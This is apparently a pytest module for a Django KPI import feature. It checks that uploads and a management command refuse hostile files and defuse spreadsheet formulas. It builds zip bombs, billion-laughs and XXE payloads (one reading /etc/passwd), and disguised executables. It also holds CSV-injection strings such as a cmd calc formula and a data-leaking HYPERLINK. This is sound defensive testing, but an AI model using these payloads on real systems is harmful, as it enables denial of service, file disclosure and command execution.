"""Hostile files, through the web upload and through ``manage.py
import_readings``: each is refused with its clear message before anything is
parsed or stored, and the database is unchanged (readings, targets, returns
and every history table)."""

import functools
import io
import struct
import zipfile

import openpyxl
import pytest
from django.core.files.uploadedfile import SimpleUploadedFile
from django.core.management import CommandError, call_command
from django.urls import reverse
from openpyxl import Workbook

from kpis import imports
from kpis.exports import neutralise
from kpis.imports import (
    BAD_ENCODING,
    FORMULA_WITHOUT_VALUE,
    MAX_COMPRESSION_RATIO,
    MAX_UNZIPPED_BYTES,
    MAX_UPLOAD_BYTES,
    MAX_ZIP_ENTRIES,
    NO_ROWS,
    NOT_A_NUMBER,
    NOT_CSV,
    NOT_XLSX,
    TOO_BIG,
    TOO_BIG_UNZIPPED,
    UNKNOWN_KPI,
    UNSAFE_XML,
    ZIP_BOMB,
    ZIP_BOMB_ENTRIES,
    ZIP_BOMB_RATIO,
)
from kpis.models import Reading, Upload
from tests.kpis.imports.cases import err, snapshot

SHEET = "xl/worksheets/sheet1.xml"
MAIN = 'xmlns="http://schemas.openxmlformats.org/spreadsheetml/2006/main"'
HEADER_ROW = (
    '<row r="1"><c r="A1" t="inlineStr"><is><t>kpi</t></is></c>'
    '<c r="B1" t="inlineStr"><is><t>period</t></is></c>'
    '<c r="C1" t="inlineStr"><is><t>value</t></is></c></row>'
)

# --- Building hostile files ------------------------------------------------------


def _workbook(rows=(("kpi", "period", "value"), ("KPI1", "2018-10", 85))) -> bytes:
    book = Workbook()
    for row in rows:
        book.active.append(list(row))
    buffer = io.BytesIO()
    book.save(buffer)
    return buffer.getvalue()


def _with_part(part: str, content: bytes) -> bytes:
    """A real workbook with one part replaced."""
    source = zipfile.ZipFile(io.BytesIO(_workbook()))
    buffer = io.BytesIO()
    with zipfile.ZipFile(buffer, "w", zipfile.ZIP_DEFLATED) as archive:
        for info in source.infolist():
            data = content if info.filename == part else source.read(info.filename)
            archive.writestr(info.filename, data)
    return buffer.getvalue()


def _zip(parts: dict[str, bytes | int]) -> bytes:
    """A zip of parts; an int part is that many zero bytes, written in chunks."""
    buffer = io.BytesIO()
    with zipfile.ZipFile(buffer, "w", zipfile.ZIP_DEFLATED) as archive:
        for name, content in parts.items():
            if isinstance(content, int):
                with archive.open(name, "w", force_zip64=True) as part:
                    chunk = b"\0" * 2**20
                    for _ in range(content // len(chunk)):
                        part.write(chunk)
            else:
                archive.writestr(name, content)
    return buffer.getvalue()


@functools.cache
def total_bomb() -> bytes:
    """250 MB of zeros in a few hundred KB: over the unzipped limit in all."""
    return _zip({"[Content_Types].xml": b"<Types/>", SHEET: MAX_UNZIPPED_BYTES + 50 * 2**20})


@functools.cache
def ratio_bomb() -> bytes:
    """Under the total limit, but one part deflated about a thousand to one."""
    return _zip({"[Content_Types].xml": b"<Types/>", SHEET: 20 * 2**20})


def _ratio_of(data: bytes) -> int:
    info = zipfile.ZipFile(io.BytesIO(data)).getinfo(SHEET)
    return info.file_size // info.compress_size


def entries_bomb() -> bytes:
    return _zip({f"xl/part{i}.xml": b"" for i in range(MAX_ZIP_ENTRIES + 1)})


@functools.cache
def lying_sizes() -> bytes:
    """A workbook whose sheet inflates to 20 MB but whose directory says 1 KB:
    zipfile reads no more than the declared size, then fails the CRC."""
    big_sheet = (
        f"<worksheet {MAIN}><sheetData>{HEADER_ROW}</sheetData>".encode()
        + b" " * (20 * 2**20)
        + b"</worksheet>"
    )
    data = bytearray(_with_part(SHEET, big_sheet))
    declared = 1024
    for info in zipfile.ZipFile(io.BytesIO(bytes(data))).infolist():
        if info.filename == SHEET:
            # Local header: uncompressed size at offset 22.
            struct.pack_into("<I", data, info.header_offset + 22, declared)
    offset = data.find(b"PK\x01\x02")
    while offset != -1:
        name_length = struct.unpack_from("<H", data, offset + 28)[0]
        if data[offset + 46 : offset + 46 + name_length] == SHEET.encode():
            # Central directory: uncompressed size at offset 24.
            struct.pack_into("<I", data, offset + 24, declared)
        offset = data.find(b"PK\x01\x02", offset + 4)
    assert zipfile.ZipFile(io.BytesIO(bytes(data))).getinfo(SHEET).file_size == declared
    return bytes(data)


LAUGHS = (
    '<?xml version="1.0"?><!DOCTYPE lolz [<!ENTITY lol "lol">'
    + "".join(
        f'<!ENTITY lol{i} "{f"&lol{i - 1};" * 10 if i > 1 else "&lol;" * 10}">'
        for i in range(1, 10)
    )
    + f"]><worksheet {MAIN}><sheetData>{HEADER_ROW}"
    '<row r="2"><c r="A2" t="inlineStr"><is><t>&lol9;</t></is></c></row>'
    "</sheetData></worksheet>"
).encode()
EXTERNAL_ENTITY = (
    '<?xml version="1.0"?><!DOCTYPE w [<!ENTITY secret SYSTEM "file:///etc/passwd">]>'
    f"<worksheet {MAIN}><sheetData>{HEADER_ROW}"
    '<row r="2"><c r="A2" t="inlineStr"><is><t>&secret;</t></is></c></row>'
    "</sheetData></worksheet>"
).encode()
DEPTH = 20_000  # deflates well, but stays under the size where the ratio is checked
DEEP = (
    f"<worksheet {MAIN}><sheetData>{HEADER_ROW}</sheetData>".encode()
    + b"<x>" * DEPTH
    + b"</x>" * DEPTH
    + b"</worksheet>"
)
EXE = b"MZ\x90\x00\x03\x00\x00\x00\x04\x00\x00\x00\xff\xff\x00\x00" + bytes(range(256)) * 4
PNG = b"\x89PNG\r\n\x1a\n\x00\x00\x00\rIHDR\x00\x00\x00\x01\x00\x00\x00\x01\x08\x06\x00\x00\x00"
PDF = b"%PDF-1.7\n%\xe2\xe3\xcf\xd3\n1 0 obj\n<<>>\nendobj\n"
OVERSIZED_CSV = b"kpi,period,value\n" + b"KPI1,2018-10,85\n" * (MAX_UPLOAD_BYTES // 16 + 1)

# (id, file name, bytes or a function making them, the message)
HOSTILE_FILES = [
    ("oversized-csv", "r.csv", OVERSIZED_CSV, TOO_BIG.format(limit=MAX_UPLOAD_BYTES)),
    ("oversized-xlsx", "r.xlsx", b"PK\x03\x04" + b"\x01" * MAX_UPLOAD_BYTES,
     TOO_BIG.format(limit=MAX_UPLOAD_BYTES)),
    ("exe-named-csv", "r.csv", EXE, NOT_CSV.format(name="r.csv", kind="a Windows program (.exe)")),
    ("exe-named-xlsx", "r.xlsx", EXE, NOT_XLSX.format(name="r.xlsx")),
    ("exe-named-exe", "r.exe", EXE, imports.WRONG_TYPE.format(name="r.exe")),
    ("png-named-csv", "r.csv", PNG, NOT_CSV.format(name="r.csv", kind="a PNG image")),
    ("png-named-xlsx", "r.xlsx", PNG, NOT_XLSX.format(name="r.xlsx")),
    ("pdf-named-csv", "r.csv", PDF, NOT_CSV.format(name="r.csv", kind="a PDF")),
    ("pdf-named-xlsx", "r.xlsx", PDF, NOT_XLSX.format(name="r.xlsx")),
    ("xlsx-named-csv", "r.csv", _workbook(),
     NOT_CSV.format(name="r.csv", kind="a zip archive, perhaps an Excel workbook: name it .xlsx")),
    ("zip-bomb-total", "r.xlsx", total_bomb,
     TOO_BIG_UNZIPPED.format(limit_mb=MAX_UNZIPPED_BYTES // 2**20)),
    ("zip-bomb-ratio", "r.xlsx", ratio_bomb,
     lambda: ZIP_BOMB.format(name="r.xlsx", detail=ZIP_BOMB_RATIO.format(
         part=SHEET, ratio=_ratio_of(ratio_bomb())))),
    ("zip-bomb-entries", "r.xlsx", entries_bomb,
     ZIP_BOMB.format(name="r.xlsx", detail=ZIP_BOMB_ENTRIES.format(count=MAX_ZIP_ENTRIES + 1))),
    ("zip-lying-about-sizes", "r.xlsx", lying_sizes, NOT_XLSX.format(name="r.xlsx")),
    ("zip-not-a-workbook", "r.xlsx", lambda: _zip({"hello.txt": b"hi"}),
     NOT_XLSX.format(name="r.xlsx")),
    ("zip-with-content-types-only", "r.xlsx",
     lambda: _zip({"[Content_Types].xml": b"<Types/>", "xl/workbook.xml": b"<not-a-workbook/>"}),
     NOT_XLSX.format(name="r.xlsx")),
    ("xlsx-truncated", "r.xlsx", _workbook()[:2000], NOT_XLSX.format(name="r.xlsx")),
    ("billion-laughs", "r.xlsx", lambda: _with_part(SHEET, LAUGHS), UNSAFE_XML.format(name="r.xlsx")),
    ("billion-laughs-in-workbook-part", "r.xlsx",
     lambda: _with_part("xl/workbook.xml", LAUGHS.replace(b"worksheet", b"workbook")),
     UNSAFE_XML.format(name="r.xlsx")),
    ("external-entity", "r.xlsx", lambda: _with_part(SHEET, EXTERNAL_ENTITY),
     UNSAFE_XML.format(name="r.xlsx")),
    ("deeply-nested-xml", "r.xlsx", lambda: _with_part(SHEET, DEEP), NO_ROWS),
    ("binary-garbage-with-nul", "r.csv", bytes(range(256)) * 64,
     BAD_ENCODING.format(detail=" (it has NUL bytes, as UTF-16 text or a binary file does)")),
    ("garbage-not-cp1252", "r.csv", b"kpi,period,value\nKPI1,2018-10,\x81\x8d\x8f\x90\x9d\n",
     BAD_ENCODING.format(detail="")),
    ("utf-32", "r.csv", "kpi,period,value\nKPI1,2018-10,85\n".encode("utf-32"),
     BAD_ENCODING.format(detail=" (it is UTF-32)")),
]  # fmt: skip


def _cases():
    return [pytest.param(*case[1:], id=case[0]) for case in HOSTILE_FILES]


def _made(value):
    return value() if callable(value) else value


# --- Through the web upload -------------------------------------------------------


def _web_upload(client, user, name, data):
    """Upload, preview and try to confirm; the message the officer is shown."""
    client.force_login(user)
    response = client.post(
        reverse("upload_start", args=["birmingham"]), {"file": SimpleUploadedFile(name, data)}
    )
    if response.status_code == 200:  # refused by the form: nothing stored
        assert not Upload.objects.exists()
        [message] = response.context["form"].errors["file"]
        return message
    upload = Upload.objects.get()
    preview = client.get(response.url)
    client.post(reverse("upload_confirm", args=["birmingham", upload.pk]))
    return preview.context["file_error"]


@pytest.mark.parametrize(("name", "data", "message"), _cases())
def test_the_upload_page_refuses_each_hostile_file(client, officer, name, data, message):
    before = snapshot()
    readings = Reading.objects.count()
    assert _web_upload(client, officer, name, _made(data)) == _made(message)
    assert snapshot() == before
    assert Reading.objects.count() == readings


def test_a_hostile_file_is_refused_before_it_is_stored(client, officer):
    """Everything that check_file refuses never reaches the Upload table."""
    client.force_login(officer)
    for name, data in [("r.csv", EXE), ("r.xlsx", PNG), ("r.xlsx", entries_bomb())]:
        response = client.post(
            reverse("upload_start", args=["birmingham"]), {"file": SimpleUploadedFile(name, data)}
        )
        assert response.status_code == 200
    assert not Upload.objects.exists()


def test_an_upload_of_any_size_is_cut_off_as_it_arrives(client, officer):
    """The upload handler keeps one byte past the limit, so a 12 MB file
    costs no more than 5 MB of memory or disk, and the form refuses it."""
    client.force_login(officer)
    big = SimpleUploadedFile("big.csv", b"x" * (12 * 2**20))
    response = client.post(reverse("upload_start", args=["birmingham"]), {"file": big})
    assert response.status_code == 200
    assert response.context["form"].errors["file"] == [TOO_BIG.format(limit=MAX_UPLOAD_BYTES)]
    assert response.context["form"].files["file"].size == MAX_UPLOAD_BYTES + 1


# --- Through the command --------------------------------------------------------------


@pytest.mark.parametrize(("name", "data", "message"), _cases())
def test_import_readings_refuses_each_hostile_file(seeds, tmp_path, name, data, message):
    path = tmp_path / name
    path.write_bytes(_made(data))
    before = snapshot()
    with pytest.raises(CommandError) as raised:
        call_command("import_readings", str(path), "--organisation", "birmingham")
    assert str(raised.value) == f"{path}: {_made(message)}"
    assert snapshot() == before


# --- Formulas in the cells ------------------------------------------------------------

FORMULAS_CSV = (
    b"kpi,period,value,commentary\n"
    b"=KPI1,2018-11,85,\n"
    b"KPI1,2018-11,=1+1,\n"
    b"KPI2,2018-11,@SUM(A1),\n"
    b"KPI3,2018-11,\"=cmd|' /C calc'!A0\",\n"
)


def test_formulas_in_kpi_or_value_cells_are_refused_as_not_numbers(client, officer):
    """A formula is text to the import: never a KPI code, never a value."""
    client.force_login(officer)
    before = snapshot()
    response = client.post(
        reverse("upload_start", args=["birmingham"]),
        {"file": SimpleUploadedFile("f.csv", FORMULAS_CSV)},
    )
    preview = client.get(response.url)
    assert [str(e) for e in preview.context["result"].errors] == [
        err(2, UNKNOWN_KPI.format(code="=KPI1", organisation="Birmingham Children's Trust"),
            "A (kpi)"),
        err(3, NOT_A_NUMBER.format(text="=1+1"), "C (value)"),
        err(4, NOT_A_NUMBER.format(text="@SUM(A1)"), "C (value)"),
        err(5, NOT_A_NUMBER.format(text="=cmd|' /C calc'!A0"), "C (value)"),
    ]  # fmt: skip
    client.post(reverse("upload_confirm", args=["birmingham", Upload.objects.get().pk]))
    assert snapshot() == before


def test_an_xlsx_formula_without_a_saved_value_is_refused(seeds, tmp_path):
    book = Workbook()
    book.active.append(["kpi", "period", "value"])
    book.active.append(["KPI1", "2018-11", '=WEBSERVICE("http://example.org/")'])
    path = tmp_path / "f.xlsx"
    book.save(path)
    before = snapshot()
    with pytest.raises(CommandError) as raised:
        call_command("import_readings", str(path), "--organisation", "birmingham")
    formula = FORMULA_WITHOUT_VALUE.format(formula='=WEBSERVICE("http://example.org/")')
    assert err(2, formula, "C (value)") in str(raised.value)
    assert snapshot() == before


PAYLOAD = '=HYPERLINK("http://example.org/?"&A1,"Click")'


def test_a_formula_in_commentary_is_stored_as_text_and_exported_inert(
    client, officer, unreturned_seeds
):
    """Commentary is free text, so a formula is kept as typed; every export
    then neutralises it, and the page shows it escaped."""
    client.force_login(officer)
    data = (
        f'kpi,period,value,commentary\nKPI1,2018-10,86,"{PAYLOAD.replace(chr(34), 2 * chr(34))}"\n'
    )
    response = client.post(
        reverse("upload_start", args=["birmingham"]),
        {"file": SimpleUploadedFile("c.csv", data.encode())},
    )
    client.get(response.url)
    client.post(reverse("upload_confirm", args=["birmingham", Upload.objects.get().pk]))
    reading = Reading.objects.get(kpi__code="KPI1", kpi__organisation__slug="birmingham",
                                  period="2018-10-01")  # fmt: skip
    assert reading.commentary == PAYLOAD

    report_csv = client.get("/o/birmingham/report/2018-10/?format=csv").content.decode()
    assert f"'{PAYLOAD}".replace('"', '""') in report_csv
    assert f",{PAYLOAD.replace(chr(34), 2 * chr(34))}" not in report_csv

    report_xlsx = client.get("/o/birmingham/report/2018-10/?format=xlsx").content
    book = openpyxl.load_workbook(io.BytesIO(report_xlsx))
    cells = [c for sheet in book for row in sheet.iter_rows() for c in row if c.value]
    assert not [c for c in cells if c.data_type == "f"]  # no formula anywhere
    assert f"'{PAYLOAD}" in {c.value for c in cells}


@pytest.mark.parametrize(
    ("cell", "expected"),
    [
        ("=1+1", "'=1+1"),
        ("+1+cmd", "'+1+cmd"),
        ("-1+cmd", "'-1+cmd"),
        ("@SUM(A1)", "'@SUM(A1)"),
        ("\t=1+1", "'\t=1+1"),
        ("\r=1+1", "'\r=1+1"),
        ("=cmd|' /C calc'!A0", "'=cmd|' /C calc'!A0"),
        ("-", "'-"),
        # Numbers are values, not formulas, and stay as they are.
        ("-3.5", "-3.5"),
        ("+85", "+85"),
        ("85", "85"),
        ("Fell = 3 below target", "Fell = 3 below target"),
        ("", ""),
    ],
)
def test_neutralise_defuses_every_formula_prefix(cell, expected):
    assert neutralise(cell) == expected


def test_openpyxl_parses_with_defusedxml():
    """defusedxml (requirements.txt) is what makes openpyxl refuse entities."""
    assert openpyxl.DEFUSEDXML is True


def test_the_limits_are_what_the_messages_say():
    assert MAX_UPLOAD_BYTES == 5 * 1024 * 1024
    assert MAX_COMPRESSION_RATIO <= 200
